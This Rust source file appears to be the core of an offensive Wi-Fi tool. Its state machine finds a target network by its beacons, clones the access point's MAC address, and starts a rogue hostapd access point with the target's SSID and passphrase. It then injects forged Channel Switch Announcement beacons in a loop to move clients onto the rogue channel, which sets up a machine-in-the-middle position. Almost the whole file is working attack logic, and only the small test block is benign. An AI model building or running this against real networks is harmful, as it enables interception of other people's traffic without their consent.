//! The attack state machine: discovery, rogue-AP bring-up, CSA injection.
//!
//! One logical thread drives everything in strict sequence. The two radio
//! handles and the hostapd child are exclusively owned here; the only outside
//! influence is the running flag flipped by the Ctrl-C handler, which every
//! blocking loop polls.

use std::fs;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use colored::Colorize;

use crate::dot11;
use crate::error::{AttackError, Result};
use crate::link::MonitorLink;
use crate::platform;
use crate::profile::NetworkProfile;

/// Channel hop order for discovery: the three non-overlapping channels first,
/// then the rest by decreasing likelihood.
pub const CHANNEL_SWEEP_ORDER: [u8; 13] = [1, 6, 11, 3, 8, 2, 7, 4, 10, 5, 9, 12, 13];

/// Passive listen window on the starting channel before hopping.
const INITIAL_LISTEN_WINDOW: Duration = Duration::from_secs(30);
/// Listen window per hopped channel.
const HOP_LISTEN_WINDOW: Duration = Duration::from_secs(10);
/// Time hostapd gets to initialize before we start injecting. Assumption,
/// not a readiness poll.
const HOSTAPD_WARMUP: Duration = Duration::from_secs(10);

/// Forged beacon pairs per injection burst.
const BURST_PAIRS: usize = 4;
/// Pause between bursts.
const BURST_INTERVAL: Duration = Duration::from_secs(1);

const HOSTAPD_BIN: &str = "hostapd";
const HOSTAPD_CONF: &str = "hostapd_rogue.conf";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum State {
    Init,
    InterfacesConfigured,
    Discovering,
    Discovered,
    RogueUp,
    Injecting,
    Stopped,
    Failed,
}

pub struct Attack {
    nic_real_mon: String,
    nic_rogue_mon: String,
    nic_rogue_ap: String,
    ssid: String,
    password: String,
    state: State,
    sock_real: Option<MonitorLink>,
    sock_rogue: Option<MonitorLink>,
    hostapd: Option<Child>,
}

impl Attack {
    pub fn new(
        nic_real_mon: String,
        nic_rogue_mon: String,
        nic_rogue_ap: String,
        ssid: String,
        password: String,
    ) -> Self {
        Self {
            nic_real_mon,
            nic_rogue_mon,
            nic_rogue_ap,
            ssid,
            password,
            state: State::Init,
            sock_real: None,
            sock_rogue: None,
            hostapd: None,
        }
    }

    pub fn state(&self) -> State {
        self.state
    }

    fn set_state(&mut self, next: State) {
        log::debug!("state {:?} -> {next:?}", self.state);
        self.state = next;
    }

    fn real_link(&mut self) -> Result<&mut MonitorLink> {
        self.sock_real.as_mut().ok_or_else(|| AttackError::Interface {
            iface: self.nic_real_mon.clone(),
            reason: "link not open".into(),
        })
    }

    fn rogue_link(&mut self) -> Result<&mut MonitorLink> {
        self.sock_rogue.as_mut().ok_or_else(|| AttackError::Interface {
            iface: self.nic_rogue_mon.clone(),
            reason: "link not open".into(),
        })
    }

    /// Run the attack until the running flag clears. Any error leaves the
    /// machine in `Failed`; the caller is expected to call [`stop`] either way.
    ///
    /// [`stop`]: Attack::stop
    pub fn run(&mut self, running: &AtomicBool) -> Result<()> {
        match self.run_phases(running) {
            Ok(()) => Ok(()),
            Err(e) => {
                self.set_state(State::Failed);
                Err(e)
            }
        }
    }

    fn run_phases(&mut self, running: &AtomicBool) -> Result<()> {
        log::debug!(
            "target passphrase retained for the operator's records ({} chars)",
            self.password.len()
        );

        configure_monitor(&self.nic_real_mon)?;
        configure_monitor(&self.nic_rogue_mon)?;
        self.set_state(State::InterfacesConfigured);

        self.sock_real = Some(MonitorLink::open(&self.nic_real_mon, None, false)?);
        self.sock_rogue = Some(MonitorLink::open(&self.nic_rogue_mon, None, false)?);

        // ── Discovery ───────────────────────────────────────────────────
        self.set_state(State::Discovering);
        let ssid = self.ssid.clone();
        let beacon = discover(self.real_link()?, &ssid, running)?
            .ok_or_else(|| AttackError::Discovery(ssid.clone()))?;
        let ap_mac = dot11::source_address(&beacon)
            .ok_or(AttackError::Profile("transmitter address"))?;

        let profile = NetworkProfile::from_beacon(&beacon)?;
        // Lock the real radio onto the channel the beacon advertises, which
        // may differ from the one we happened to capture it on.
        self.real_link()?.set_channel(profile.real_channel)?;
        self.set_state(State::Discovered);

        println!(
            "{}",
            format!(
                "Target network {} detected on channel {}",
                dot11::format_mac(&ap_mac),
                profile.real_channel
            )
            .green()
        );
        println!(
            "{}",
            format!("Will create rogue AP on channel {}", profile.rogue_channel).green()
        );
        if profile.rogue_channel == profile.real_channel {
            log::warn!(
                "rogue channel {} equals the target's channel — stations have nowhere to move",
                profile.rogue_channel
            );
        }

        // ── Rogue AP bring-up ───────────────────────────────────────────
        self.rogue_link()?.set_channel(profile.rogue_channel)?;
        let mac = dot11::format_mac(&ap_mac);
        log::info!("Setting MAC address of {} to {mac}", self.nic_rogue_ap);
        platform::set_mac_address(&self.nic_rogue_ap, &mac).map_err(|e| {
            AttackError::Interface {
                iface: self.nic_rogue_ap.clone(),
                reason: e.to_string(),
            }
        })?;

        fs::write(HOSTAPD_CONF, profile.hostapd_config(&self.nic_rogue_ap))?;
        log::info!("Launching rogue hostapd with {HOSTAPD_CONF}");
        let child = Command::new(HOSTAPD_BIN)
            .args([HOSTAPD_CONF, "-dd", "-K"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .map_err(|e| AttackError::ChildProcess {
                command: HOSTAPD_BIN.to_string(),
                source: e,
            })?;
        self.hostapd = Some(child);

        log::info!(
            "Giving the rogue hostapd {} seconds to initialize ...",
            HOSTAPD_WARMUP.as_secs()
        );
        sleep_while_running(HOSTAPD_WARMUP, running);
        self.set_state(State::RogueUp);

        // ── Injection ───────────────────────────────────────────────────
        self.set_state(State::Injecting);
        while running.load(Ordering::Relaxed) {
            self.send_csa_burst(&beacon, &profile)?;
            sleep_while_running(BURST_INTERVAL, running);
        }
        Ok(())
    }

    /// Inject `BURST_PAIRS` pairs of forged beacons: the captured template
    /// with a countdown-2 CSA element, then a countdown-1 copy. No metadata
    /// attachment: the frames go out exactly as the target sent them, plus
    /// the switch announcement.
    fn send_csa_burst(&mut self, beacon: &[u8], profile: &NetworkProfile) -> Result<()> {
        let new_channel = profile.rogue_channel;
        let real_channel = profile.real_channel;
        let link = self.real_link()?;
        for _ in 0..BURST_PAIRS {
            let countdown2 = dot11::append_csa(beacon, new_channel, 2);
            link.send(&countdown2, false, real_channel)?;
            let countdown1 = dot11::append_csa(beacon, new_channel, 1);
            link.send(&countdown1, false, real_channel)?;
        }
        println!(
            "{}",
            format!(
                "Injected {BURST_PAIRS} CSA beacon pairs (moving stations to channel {new_channel})"
            )
            .green()
        );
        Ok(())
    }

    /// Best-effort cleanup. Every step runs regardless of earlier failures so
    /// the radios and the spoofed MAC are never left misconfigured.
    pub fn stop(&mut self) {
        if self.state == State::Stopped {
            return;
        }
        println!("{}", "Closing hostapd and cleaning up ...".bold());

        if let Some(mut child) = self.hostapd.take() {
            if let Err(e) = child.kill() {
                log::warn!("could not terminate hostapd: {e}");
            }
            match child.wait() {
                Ok(status) => log::debug!("hostapd exited with {status}"),
                Err(e) => log::warn!("could not reap hostapd: {e}"),
            }
        }
        if let Some(mut sock) = self.sock_real.take() {
            sock.close();
        }
        if let Some(mut sock) = self.sock_rogue.take() {
            sock.close();
        }
        if let Err(e) = platform::interface_down(&self.nic_rogue_ap) {
            log::warn!("cleanup: {e}");
        }
        if let Err(e) = platform::restore_mac_address(&self.nic_rogue_ap) {
            log::warn!("cleanup: {e}");
        }
        if let Err(e) = platform::interface_up(&self.nic_rogue_ap) {
            log::warn!("cleanup: {e}");
        }
        self.set_state(State::Stopped);
    }
}

/// Bring a radio down, switch it to monitor mode, bring it back up.
fn configure_monitor(iface: &str) -> Result<()> {
    let map = |e: std::io::Error| AttackError::Interface {
        iface: iface.to_string(),
        reason: e.to_string(),
    };
    platform::interface_down(iface).map_err(map)?;
    platform::set_monitor_mode(iface).map_err(map)?;
    platform::interface_up(iface).map_err(map)?;
    Ok(())
}

/// Listen on the current channel, then hop the fixed priority list, until a
/// beacon for `ssid` shows up or the sweep is exhausted.
fn discover(
    link: &mut MonitorLink,
    ssid: &str,
    running: &AtomicBool,
) -> Result<Option<Vec<u8>>> {
    log::info!(
        "{}: listening for beacon of {ssid:?} on the current channel",
        link.iface()
    );
    if let Some(beacon) = sniff_beacon(link, ssid, INITIAL_LISTEN_WINDOW, running)? {
        return Ok(Some(beacon));
    }
    sweep_channels(|channel| {
        if !running.load(Ordering::Relaxed) {
            return Ok(None);
        }
        log::info!("{}: hopping to channel {channel}", link.iface());
        link.set_channel(channel)?;
        sniff_beacon(link, ssid, HOP_LISTEN_WINDOW, running)
    })
}

/// Probe every channel in `CHANNEL_SWEEP_ORDER` until one yields a beacon.
/// Always terminates after the fixed list is exhausted.
fn sweep_channels<F>(mut probe: F) -> Result<Option<Vec<u8>>>
where
    F: FnMut(u8) -> Result<Option<Vec<u8>>>,
{
    for &channel in CHANNEL_SWEEP_ORDER.iter() {
        if let Some(beacon) = probe(channel)? {
            return Ok(Some(beacon));
        }
    }
    Ok(None)
}

/// Receive for at most `window`, returning the first beacon whose SSID
/// element matches `ssid`.
fn sniff_beacon(
    link: &mut MonitorLink,
    ssid: &str,
    window: Duration,
    running: &AtomicBool,
) -> Result<Option<Vec<u8>>> {
    let deadline = Instant::now() + window;
    while Instant::now() < deadline && running.load(Ordering::Relaxed) {
        let frame = match link.recv()? {
            Some(frame) => frame,
            None => continue,
        };
        if dot11::is_beacon(&frame.dot11)
            && dot11::element_value(&frame.dot11, dot11::ELEM_SSID) == Some(ssid.as_bytes())
        {
            return Ok(Some(frame.dot11));
        }
    }
    Ok(None)
}

/// Sleep in short slices so Ctrl-C stays responsive.
fn sleep_while_running(total: Duration, running: &AtomicBool) {
    let deadline = Instant::now() + total;
    while Instant::now() < deadline && running.load(Ordering::Relaxed) {
        thread::sleep(Duration::from_millis(50));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sweep_visits_every_channel_then_gives_up() {
        let mut visited = Vec::new();
        let result = sweep_channels(|channel| {
            visited.push(channel);
            Ok(None)
        })
        .unwrap();
        assert_eq!(result, None);
        assert_eq!(visited, CHANNEL_SWEEP_ORDER.to_vec());
    }

    #[test]
    fn sweep_stops_at_first_hit() {
        let mut visited = Vec::new();
        let result = sweep_channels(|channel| {
            visited.push(channel);
            if channel == 8 {
                Ok(Some(vec![0x80, 0x00]))
            } else {
                Ok(None)
            }
        })
        .unwrap();
        assert_eq!(result, Some(vec![0x80, 0x00]));
        assert_eq!(visited, vec![1, 6, 11, 3, 8]);
    }

    #[test]
    fn sweep_propagates_probe_errors() {
        let result = sweep_channels(|_| Err(AttackError::Channel("boom".into())));
        assert!(result.is_err());
    }

    #[test]
    fn new_attack_starts_in_init() {
        let attack = Attack::new(
            "wlan0".into(),
            "wlan1".into(),
            "wlan2".into(),
            "Target".into(),
            "secret".into(),
        );
        assert_eq!(attack.state(), State::Init);
    }
}
